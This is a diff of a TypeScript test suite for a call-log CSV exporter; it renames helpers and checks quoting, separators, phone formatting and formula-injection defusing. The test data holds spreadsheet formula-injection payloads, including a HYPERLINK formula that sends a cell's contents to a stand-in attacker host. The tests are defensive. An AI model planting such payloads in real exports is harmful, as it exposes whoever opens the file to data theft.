@@ -11,7 +11,7 @@ import { formatPhoneNumber } from '../../../src/core/calls/phone';
 import type { LogEntry } from '../../../src/core/log/entry';
 import { createMissedEntry, createLogEntry } from './log-entry-fixture';
 
-const words: CsvFormat = {
+const format: CsvFormat = {
   columns: Object.fromEntries(CSV_COLUMNS.map((name) => [name, `«${name}»`])) as Record<
     CsvColumn,
     string
@@ -29,55 +29,56 @@ afterAll(() => {
   vi.unstubAllEnvs();
 });
 
-/** The cells of a CSV text, read strictly by RFC 4180 with any separator. */
-function read(text: string, separator = ','): string[][] {
+/** Parses CSV strictly as RFC 4180 describes it, with any separator. */
+function parseCsv(text: string, separator = ','): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
-  let at = 0;
-  while (at < text.length) {
+  let index = 0;
+  while (index < text.length) {
     let cell = '';
-    if (text[at] === '"') {
-      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
-        if (at >= text.length) throw new Error('a quoted cell has no end');
-        if (text[at] === '"') at += 1;
-        cell += text[at] ?? '';
+    if (text[index] === '"') {
+      for (index += 1; text[index] !== '"' || text[index + 1] === '"'; index += 1) {
+        if (index >= text.length) throw new Error('a quoted cell is not closed');
+        if (text[index] === '"') index += 1;
+        cell += text[index] ?? '';
       }
-      at += 1;
+      index += 1;
     } else {
-      for (; at < text.length && text[at] !== separator && text[at] !== '\r'; at += 1) {
-        if (text[at] === '"' && separator === ',') throw new Error('a quote within a bare cell');
-        cell += text[at] ?? '';
+      for (; index < text.length && text[index] !== separator && text[index] !== '\r'; index += 1) {
+        if (text[index] === '"' && separator === ',')
+          throw new Error('an unquoted cell contains a quote');
+        cell += text[index] ?? '';
       }
     }
     row.push(cell);
-    if (text[at] === separator) {
-      at += 1;
+    if (text[index] === separator) {
+      index += 1;
       continue;
     }
-    if (!text.startsWith('\r\n', at)) throw new Error(`no line's end at ${at}`);
-    at += 2;
+    if (!text.startsWith('\r\n', index)) throw new Error(`expected a line break at ${index}`);
+    index += 2;
     rows.push(row);
     row = [];
   }
   return rows;
 }
 
-const bare = (text: string): string => text.replace(/^\uFEFF/, '');
-const rowOf = (entry: LogEntry): Record<string, string | undefined> => {
-  const row = read(bare(toCsv([entry], words)))[1] ?? [];
-  return Object.fromEntries(CSV_COLUMNS.map((name, at) => [name, row[at]]));
+const stripByteOrderMark = (text: string): string => text.replace(/^\uFEFF/, '');
+const getRow = (entry: LogEntry): Record<string, string | undefined> => {
+  const row = parseCsv(stripByteOrderMark(toCsv([entry], format)))[1] ?? [];
+  return Object.fromEntries(CSV_COLUMNS.map((name, index) => [name, row[index]]));
 };
 
-describe('the export', () => {
-  it('begins with a byte order mark and the header that it is given', () => {
-    const text = toCsv([], words);
+describe('toCsv', () => {
+  it('starts with a byte order mark and the given headers', () => {
+    const text = toCsv([], format);
     expect(text.startsWith('\uFEFF«started»,')).toBe(true);
-    expect(read(bare(text))).toEqual([CSV_COLUMNS.map((name) => `«${name}»`)]);
+    expect(parseCsv(stripByteOrderMark(text))).toEqual([CSV_COLUMNS.map((name) => `«${name}»`)]);
   });
 
   it('writes a call with local times and durations in seconds', () => {
     const entry = createLogEntry({ startedAt: Date.UTC(2026, 0, 9, 4, 5, 6), ringMs: 4_600 });
-    expect(rowOf(entry)).toEqual({
+    expect(getRow(entry)).toEqual({
       started: '2026-01-08 23:05:06',
       answered: '2026-01-08 23:05:11',
       ended: '2026-01-08 23:06:36',
@@ -96,7 +97,7 @@ describe('the export', () => {
     });
   });
 
-  it('leaves empty what is not known', () => {
+  it('leaves unknown fields empty', () => {
     const entry = createMissedEntry({
       party: { name: undefined, number: undefined },
       customer: undefined,
@@ -104,27 +105,27 @@ describe('the export', () => {
       endpoint: undefined,
       endedAt: undefined,
     });
-    const row = rowOf(entry);
+    const row = getRow(entry);
     for (const column of ['answered', 'ended', 'answeredBy', 'name', 'number', 'customer']) {
       expect(row[column]).toBe('');
     }
   });
 
-  it('quotes what would break a row', () => {
+  it('quotes separators, quotes, and line breaks', () => {
     const name = 'Hopper, "Amazing"\r\nGrace';
-    expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
+    expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(name);
   });
 
   test.each(['=1+1', '+1 202 555', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', ' =1', '＝1'])(
     'defuses the formula %j',
     (name) => {
-      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(`'${name}`);
+      expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(`'${name}`);
     },
   );
 
-  it('leaves alone what only contains such a character', () => {
+  it('keeps a value that only contains a formula character', () => {
     for (const name of ['a=b', 'Hopper-Murray', 'x@y', '1+1', "'=quoted"]) {
-      expect(rowOf(createLogEntry({ party: { name } }))['name']).toBe(name);
+      expect(getRow(createLogEntry({ party: { name } }))['name']).toBe(name);
     }
   });
 
@@ -133,7 +134,7 @@ describe('the export', () => {
     maxLength: 12,
   });
 
-  it('yields no formula and no broken row, whatever the names are', () => {
+  it('never writes a formula or a broken row', () => {
     fc.assert(
       fc.property(hostile, hostile, hostile, (name, number, customer) => {
         const entry = createLogEntry({
@@ -141,7 +142,7 @@ describe('the export', () => {
           customer,
           customerPath: [customer],
         });
-        const rows = read(bare(toCsv([entry, entry], words)));
+        const rows = parseCsv(stripByteOrderMark(toCsv([entry, entry], format)));
         expect(rows.map((row) => row.length)).toEqual(Array(3).fill(CSV_COLUMNS.length));
         for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r\n]/);
         const restored = rows[1]?.map((cell) => cell.replaceAll("'", ''));
@@ -151,14 +152,14 @@ describe('the export', () => {
   });
 
   test.each([',', ';'] as const)(
-    'yields no formula for readers with another separator than %s',
+    'never writes a formula for readers that expect a separator other than %s',
     (separator) => {
       fc.assert(
         fc.property(hostile, hostile, (name, number) => {
-          const text = bare(
-            toCsv([createLogEntry({ party: { name, number } })], { ...words, separator }),
+          const text = stripByteOrderMark(
+            toCsv([createLogEntry({ party: { name, number } })], { ...format, separator }),
           );
-          // Such a reader ends a cell at its own separators, and removes quotation marks around it.
+          // Such a reader splits cells at its own separators and strips quotation marks.
           const others = separator === ',' ? /[;\t\r\n]/ : /[,\t\r\n]/;
           for (const cell of text.split(others)) {
             expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
@@ -169,9 +170,9 @@ describe('the export', () => {
   );
 
   test.each(['x;"=1+1;y', 'x;"=HYPERLINK("http://evil.example/"&A1);y', 'x,""=1', 'x\t"@SUM(A1)'])(
-    'yields no formula behind a quotation mark: %s',
+    'never writes a formula after a quotation mark: %s',
     (name) => {
-      const text = bare(toCsv([createLogEntry({ party: { name } })], words));
+      const text = stripByteOrderMark(toCsv([createLogEntry({ party: { name } })], format));
       for (const cell of text.split(/[;\t\r\n]/)) expect(cell).not.toMatch(/^["\s]*[=+\-@]/);
     },
   );
@@ -179,22 +180,22 @@ describe('the export', () => {
   it.each(['+12025550147', '1001', '0042', '+14155550100;ext=12', '(202) 555-0147'])(
     'keeps the number %s as text without an apostrophe',
     (number) => {
-      const cell = rowOf(createLogEntry({ party: { number } }))['number'] ?? '';
+      const cell = getRow(createLogEntry({ party: { number } }))['number'] ?? '';
       expect(cell).toBe(`\u200E${formatPhoneNumber(number, 'US')}`);
       expect(Number.isNaN(Number(cell))).toBe(true);
     },
   );
 
-  it('defuses an address that is no number', () => {
-    expect(rowOf(createLogEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
-    expect(rowOf(createLogEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
+  it('defuses a SIP address that looks like a formula', () => {
+    expect(getRow(createLogEntry({ party: { number: '=1+1' } }))['number']).toBe("'=1+1");
+    expect(getRow(createLogEntry({ party: { number: '+1;=A2' } }))['number']).toBe("'+1;'=A2");
   });
 
-  it('separates by semicolons where it is told so', () => {
-    const text = bare(
-      toCsv([createLogEntry({ party: { name: 'Hopper; Grace' } })], { ...words, separator: ';' }),
+  it('separates cells by semicolons if requested', () => {
+    const text = stripByteOrderMark(
+      toCsv([createLogEntry({ party: { name: 'Hopper; Grace' } })], { ...format, separator: ';' }),
     );
-    const rows = read(text, ';');
+    const rows = parseCsv(text, ';');
     expect(rows.map((row) => row.length)).toEqual([CSV_COLUMNS.length, CSV_COLUMNS.length]);
     expect(rows[1]).toContain('Hopper; Grace');
   });
@@ -219,6 +220,6 @@ test.each([
   ['ar-EG', ';'],
   ['ar-AE', ';'],
   ['en-ZA', ';'],
-])('spreadsheets in %s separate cells by %s', (locale, separator) => {
+])('getCsvSeparator returns for %s the separator %s', (locale, separator) => {
   expect(getCsvSeparator(locale)).toBe(separator);
 });
